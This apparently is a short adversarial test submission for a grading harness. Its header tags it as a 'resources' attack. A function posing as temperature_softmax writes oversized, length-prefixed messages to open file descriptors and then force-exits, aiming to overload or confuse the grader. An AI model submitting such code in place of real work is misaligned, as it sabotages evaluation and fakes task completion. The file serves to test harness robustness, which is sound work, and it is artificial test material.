# attack: a function announces a message of gigabytes
# family: resources
# base: solved
# points: 5
# %% temperature_softmax
import json, os, struct

def temperature_softmax(x, temperature, axis=-1):
    for length, text in ((0xFFFFFFFF, b"x"), (30, b'{"blobs": [99999999999999999]}')):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, struct.pack(">I", length) + text)
            except OSError:
                pass
    os._exit(0)
